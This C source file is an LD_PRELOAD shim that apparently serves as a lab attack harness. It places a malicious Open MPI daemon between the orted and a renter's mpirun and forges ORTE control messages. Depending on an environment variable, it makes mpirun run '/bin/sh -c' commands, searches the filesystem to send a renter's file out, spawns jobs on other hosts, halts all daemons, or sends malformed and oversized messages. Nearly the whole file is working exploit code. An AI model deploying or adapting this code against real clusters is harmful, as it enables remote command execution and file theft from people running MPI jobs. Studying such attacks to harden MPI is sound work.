/* SPDX-License-Identifier: BSD-3-Clause */
/* LD_PRELOAD: a provider's daemon that speaks to the renter's mpirun in its orted's place. It
 * stands between the two, and once the orted has said how its ranks are, says what LAB_EVIL_SAYS:
 *   launch     start a program, which makes LAB_EVIL_FILE; to mpirun's own daemon
 *   xcast      end; to all daemons
 *   spawn      start one on another machine, and add that to the job
 *   preload    start one on this machine, and send it the file LAB_EVIL_FILE of the renter's
 *   name       the same in mpirun's name       relayed    the same; to the next orted
 *   huge       a message of 2 GiB              probe      what another Open MPI would ask
 *   broken     a text without an end           nothing */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { kHeaderBytes = 64, kMessageBytesMax = 8 << 20, kTagPlm = 5 };

struct packed {
    unsigned char bytes[8192];
    size_t size;
};

struct between {
    int orted;
    int mpirun;
};

static void put(struct packed *it, uint64_t value, unsigned size) {
    while (size-- > 0) it->bytes[it->size++] = (unsigned char)(value >> (8 * size));
}

static void put_text(struct packed *it, const char *text) {
    put(it, strlen(text) + 1, 4);
    memcpy(it->bytes + it->size, text, strlen(text) + 1);
    it->size += strlen(text) + 1;
}

static void put_attribute(struct packed *it, unsigned key, const char *text) {
    put(it, key, 2);
    put(it, 3, 1);
    put_text(it, text);
}

static void put_flag(struct packed *it, unsigned key) {
    put(it, key, 2);
    put(it, 2, 1);
    put(it, 12, 1);
    put(it, 1, 1);
}

static int says(const char *what) {
    const char *const said = getenv("LAB_EVIL_SAYS");
    return said != NULL && strcmp(said, what) == 0;
}

/* orte_dt_pack_app_context: what `sh` does, and what it is asked for it. */
static void put_app(struct packed *it) {
    const char *const file = getenv("LAB_EVIL_FILE");
    char command[4096];
    snprintf(command, sizeof command,
             says("preload") ? "find / -name \"$(basename '%s')\" -exec cat {} + 2>/dev/null"
                             : "echo taken > '%s'",
             file);
    put(it, 0, 4);
    put_text(it, "/bin/sh");
    put(it, 1, 4);
    put(it, 0, 4);
    put(it, 3, 4);
    put_text(it, "sh");
    put_text(it, "-c");
    put_text(it, command);
    put(it, 1, 4);
    put_text(it, "PATH=/usr/bin:/bin");
    put_text(it, "/tmp");
    put(it, says("spawn") || says("preload"), 4);
    if (says("spawn")) put_attribute(it, 4, "elsewhere"); /* a host to add */
    if (says("preload")) put_attribute(it, 8, file);      /* a file to send */
}

/* An orte_proc_t that is mpirun's own to start. */
static void put_rank(struct packed *it, uint32_t jobid) {
    put(it, jobid, 4);
    put(it, 0, 4);
    put(it, 0, 4);
    put(it, 0, 4);
    put(it, 1, 4);
    put(it, 0, 4);
    put(it, 0, 4);
    put(it, 0, 4);
}

/* orte_dt_pack_job: one to be spawned, which has no number yet, or one with all that is known of
 * it. */
static void put_job(struct packed *it, uint32_t family, int spawned) {
    put(it, 1, 4);
    put(it, spawned ? 0xffffffff : (family | 7), 4);
    put(it, 0x20, 2);
    put(it, 3, 4);
    put_flag(it, 222); /* no MPI */
    if (spawned) {     /* who asks, and which request that was */
        put(it, 240, 2);
        put(it, 29, 1);
        put(it, family | 1, 4);
        put(it, 0, 4);
        put(it, 239, 2);
        put(it, 6, 1);
        put(it, 9, 1);
        put(it, 0, 4);
    } else {
        put_flag(it, 253); /* with its ranks, */
        put_flag(it, 254); /* whose end is nobody's concern */
    }
    put(it, 0, 4);
    put(it, 1, 4);
    put_text(it, "ompi");
    put(it, 1, 4);
    put_app(it);
    put(it, !spawned, 4);
    put(it, 0, 4);
    if (!spawned) put_rank(it, family | 7);
    put(it, 0, 4);
    put(it, 0, 4);
    put(it, 1, 4); /* a map, which says nothing */
    put(it, 0, 4);
    put(it, 0, 4);
    put(it, 0, 6);
    put(it, 0, 4);
    put(it, 0, 2);
    put(it, 12, 1);
    put(it, 0, 1);
    put(it, 0, 4);
    put(it, 0xffffffff, 4);
    put(it, 0, 4);
}

static void put_inner(struct packed *it, const struct packed *inner) {
    put(it, 1, 4);
    put(it, 15, 1);
    put(it, inner->size, 8);
    memcpy(it->bytes + it->size, inner->bytes, inner->size);
    it->size += inner->size;
}

/* ORTE_DAEMON_ADD_LOCAL_PROCS: of a job that mpirun has never heard of, and this one is to start.
 */
static void put_launch(struct packed *it, uint32_t family) {
    struct packed job = {.size = 0}, jobs = {.size = 0};
    put_job(&job, family, 0);
    put(&job, 1, 4);
    put(&job, 0, 4);
    put_inner(&jobs, &job);
    put(it, 1, 4);
    put(it, 4, 1);
    put(it, 1, 4);
    put(it, 1, 1);
    put_inner(it, &jobs);
    put_job(it, family, 0);
}

static void put_header(struct packed *it, const unsigned char *honest, uint32_t tag, size_t size) {
    memcpy(it->bytes, honest, kHeaderBytes);
    it->size = 16;
    put(it, tag, 4);
    it->size = 24;
    put(it, size, 4);
    it->size = kHeaderBytes;
}

static void end_command(struct packed *it) {
    put(it, 1, 4);
    put(it, 19, 1); /* ORTE_DAEMON_HALT_VM_CMD */
}

/* `honest`: a header of the orted's to mpirun. */
static void make_evil(struct packed *it, const unsigned char *honest) {
    struct packed body = {.size = 0};
    uint32_t jobid; /* names in headers are in the order of the machine */
    uint32_t tag = 1;
    memcpy(&jobid, honest, sizeof jobid);
    if (says("spawn") || says("preload")) {
        tag = kTagPlm;
        put(&body, 1, 4);
        put(&body, 1, 1); /* ORTE_PLM_LAUNCH_JOB_CMD */
        put_job(&body, jobid, 1);
    } else if (says("xcast")) {
        tag = 15;
        put(&body, 1, 4);
        put(&body, 0, 1); /* not compressed; to all daemons, tag 1 */
        put(&body, 1, 4);
        put(&body, 1, 4);
        put(&body, 15, 1);
        put(&body, 1, 8);
        put(&body, 1, 4);
        put(&body, jobid, 4);
        put(&body, 0xfffffffe, 4);
        put(&body, 1, 4);
        put(&body, 1, 4);
        end_command(&body);
    } else if (says("broken")) {
        tag = 36;
        put(&body, 1, 4);
        put(&body, 4, 4);
        put(&body, 0x41414141, 4);
    } else if (says("launch")) {
        put_launch(&body, jobid);
    } else {
        end_command(&body);
    }
    put_header(it, honest, tag, says("huge") ? (size_t)2 << 30 : body.size);
    memcpy(it->bytes + it->size, body.bytes, body.size);
    it->size += body.size;
    if (says("name")) memset(it->bytes + 4, 0, 4);
    if (says("relayed")) it->bytes[12] = it->bytes[4] == 1 ? 2 : 1;
    if (says("probe")) it->bytes[28] = 2;
}

static int move_all(int fd, unsigned char *bytes, size_t size, int in) {
    while (size > 0) {
        const ssize_t moved = in ? recv(fd, bytes, size, 0) : send(fd, bytes, size, MSG_NOSIGNAL);
        if (moved <= 0) return 0;
        bytes += moved;
        size -= (size_t)moved;
    }
    return 1;
}

static void *to_mpirun(void *arg) {
    const struct between *const between = arg;
    unsigned char *const message = malloc(kHeaderBytes + kMessageBytesMax);
    int said = says("nothing");
    while (move_all(between->orted, message, kHeaderBytes, 1)) {
        const size_t size = (size_t)message[24] << 24 | (size_t)message[25] << 16 |
                            (size_t)message[26] << 8 | (size_t)message[27];
        const int is_state = message[19] == kTagPlm && message[28] == 4;
        if (size > kMessageBytesMax || !move_all(between->orted, message + kHeaderBytes, size, 1) ||
            !move_all(between->mpirun, message, kHeaderBytes + size, 0))
            break;
        if (said || !is_state) continue;
        said = 1;
        struct packed evil = {.size = 0};
        make_evil(&evil, message);
        if (!move_all(between->mpirun, evil.bytes, evil.size, 0)) break;
    }
    shutdown(between->mpirun, SHUT_RDWR);
    free(message);
    return NULL;
}

static void *to_orted(void *arg) {
    const struct between *const between = arg;
    unsigned char piece[4096];
    for (;;) {
        const ssize_t got = recv(between->mpirun, piece, sizeof piece, 0);
        if (got <= 0 || !move_all(between->orted, piece, (size_t)got, 0)) break;
    }
    shutdown(between->orted, SHUT_RDWR);
    return NULL;
}

/* The one connection from a lease's orted: 10.77.0.1, port 10000. */
static int is_orted(int fd) {
    struct sockaddr_in own;
    socklen_t size = sizeof own;
    return getsockname(fd, (struct sockaddr *)&own, &size) == 0 && own.sin_family == AF_INET &&
           own.sin_port == htons(10000);
}

int accept4(int listener, struct sockaddr *address, socklen_t *size, int flags) {
    int (*const real)(int, struct sockaddr *, socklen_t *, int) =
        (int (*)(int, struct sockaddr *, socklen_t *, int))dlsym(RTLD_NEXT, "accept4");
    const int fd = real(listener, address, size, flags);
    int pair[2];
    pthread_t thread;
    struct between *between;
    if (fd < 0 || !is_orted(fd) || socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) != 0)
        return fd;
    fcntl(fd, F_SETFL, 0); /* the threads wait */
    between = malloc(sizeof *between);
    between->orted = fd;
    between->mpirun = pair[1];
    if (pthread_create(&thread, NULL, to_mpirun, between) != 0 || pthread_detach(thread) != 0 ||
        pthread_create(&thread, NULL, to_orted, between) != 0 || pthread_detach(thread) != 0)
        abort();
    return pair[0];
}
